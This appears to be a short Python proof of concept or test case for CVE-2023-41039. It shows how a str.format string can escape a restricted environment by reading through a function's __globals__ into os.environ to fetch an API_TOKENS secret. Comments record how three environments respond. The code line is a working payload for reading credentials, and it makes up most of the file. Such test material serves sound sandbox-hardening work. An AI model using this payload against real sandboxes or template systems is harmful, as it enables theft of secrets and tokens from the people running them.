# CVE-2023-41039: str.format reads through attributes into a module's environment.
# guarded: error AttributeError: the attribute '__globals__'
# plain: error KeyError: 'API_TOKENS'
# landlock: error KeyError: 'API_TOKENS'
import logging

"{0.__globals__[os].environ[API_TOKENS]}".format(logging.getLogger)
